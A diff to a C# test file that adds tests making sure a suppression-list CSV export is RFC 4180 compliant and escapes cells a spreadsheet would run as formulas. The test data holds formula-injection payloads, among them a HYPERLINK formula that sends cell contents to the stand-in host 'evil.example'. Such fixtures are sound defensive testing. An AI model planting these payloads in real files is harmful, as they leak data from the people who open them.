@@ -147,7 +147,7 @@ public sealed class SuppressionListTests(QueryApiFixture fixture)
         var tenant = await fixture.CreateTenantAsync();
         using var client = fixture.Client(tenant.Id, "suppression:write");
 
-        using var response = await client.PutAsync("/suppression-list/jane@example.com", new StringContent("reason=MANUAL"));
+        using var response = await client.PutAsync("/suppression-list/jane@example.com", new StringContent("reason=MANUAL", System.Text.Encoding.UTF8, "application/json"));
 
         Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
         Assert.Contains("{\"reason\":\"MANUAL\"}", (await response.JsonAsync()).GetProperty("detail").GetString(), StringComparison.Ordinal);
@@ -184,6 +184,92 @@ public sealed class SuppressionListTests(QueryApiFixture fixture)
         var again = await (await otherClient.GetAsync("/suppression-list/export")).Content.ReadAsStringAsync();
         Assert.Equal(WithoutDates(csv), WithoutDates(again));
     }
+
+    // Values a spreadsheet would run as formulas, and the RFC 4180 cases: commas, quotes, line breaks.
+    private static readonly (string Email, string Source)[] AwkwardEntries =
+    [
+        ("=1+2@example.com", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+        ("+1@example.com", "+cmd"),
+        ("-2@example.com", "-2+3"),
+        ("plain@example.com", "@SUM(1)"),
+        ("'=quoted@example.com", "'=already guarded"),
+        ("'plain@example.com", "'single quote"),
+        ("comma@example.com", "a, b"),
+        ("quote@example.com", "say \"hi\""),
+        ("break@example.com", "line one\r\nline two"),
+        ("tab@example.com", "\t=1"),
+        ("cr@example.com", "\r=1"),
+    ];
+
+    [Fact]
+    public async Task The_CSV_export_is_RFC_4180_and_guards_every_cell_a_spreadsheet_would_run_as_a_formula()
+    {
+        var tenant = await fixture.CreateTenantAsync();
+        using var client = fixture.Client(tenant.Id, "events:read");
+        foreach (var (email, source) in AwkwardEntries)
+        {
+            await fixture.Suppressions.PutAsync(new SuppressionEntry(tenant.Id, email, SuppressionReason.Manual, source, DateTimeOffset.UtcNow), CancellationToken.None);
+        }
+
+        var csv = await (await client.GetAsync("/suppression-list/export")).Content.ReadAsStringAsync();
+
+        // Parsed by an independent RFC 4180 reader, not our importer.
+        using var parser = new Microsoft.VisualBasic.FileIO.TextFieldParser(new StringReader(csv))
+        {
+            TextFieldType = Microsoft.VisualBasic.FileIO.FieldType.Delimited,
+            HasFieldsEnclosedInQuotes = true,
+            TrimWhiteSpace = false,
+        };
+        parser.SetDelimiters(",");
+        Assert.Equal(["email", "reason", "source", "createdAt"], parser.ReadFields()!);
+        var rows = new Dictionary<string, string[]>();
+        while (parser.ReadFields() is { } fields)
+        {
+            Assert.Equal(4, fields.Length);
+            rows[fields[0]] = fields;
+        }
+
+        Assert.Equal(AwkwardEntries.Length, rows.Count);
+        foreach (var (email, source) in AwkwardEntries)
+        {
+            var row = rows[Guarded(email)];
+            Assert.Equal("MANUAL", row[1]);
+            // TextFieldParser reads line by line, so a line break inside a field comes back as whichever it likes.
+            Assert.Equal(Guarded(source).ReplaceLineEndings("\n"), row[2].ReplaceLineEndings("\n"));
+        }
+
+        Assert.Contains(",\"'\r=1\",", csv, StringComparison.Ordinal);
+
+        Assert.All(rows.Values.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"'{cell}' would run as a formula."));
+    }
+
+    [Fact]
+    public async Task An_export_with_guarded_cells_imports_back_to_the_same_addresses_reasons_and_sources()
+    {
+        var tenant = await fixture.CreateTenantAsync();
+        using var client = fixture.Client(tenant.Id, "events:read");
+        var importable = AwkwardEntries.Where(e => !e.Source.Any(char.IsControl)).ToList();
+        foreach (var (email, source) in importable)
+        {
+            await fixture.Suppressions.PutAsync(new SuppressionEntry(tenant.Id, email, SuppressionReason.Complaint, source, DateTimeOffset.UtcNow), CancellationToken.None);
+        }
+
+        var csv = await (await client.GetAsync("/suppression-list/export")).Content.ReadAsStringAsync();
+        var other = await fixture.CreateTenantAsync();
+        using var otherClient = fixture.Client(other.Id, "events:read", "suppression:write");
+        using var import = await otherClient.PostAsync("/suppression-list/import", HttpJson.Csv(csv));
+
+        Assert.Equal(HttpStatusCode.OK, import.StatusCode);
+        Assert.Equal(importable.Count, (await import.JsonAsync()).GetProperty("imported").GetInt32());
+        foreach (var (email, source) in importable)
+        {
+            var entry = await fixture.Suppressions.GetAsync(other.Id, email, CancellationToken.None);
+            Assert.NotNull(entry);
+            Assert.Equal((SuppressionReason.Complaint, source), (entry.Reason, entry.Source));
+        }
+    }
+
+    private static string Guarded(string value) => value.Length > 0 && "=+-@\t\r'".Contains(value[0]) ? "'" + value : value;
 
     [Fact]
     public async Task Bad_rows_are_skipped_and_reported_by_line_while_good_rows_are_imported()
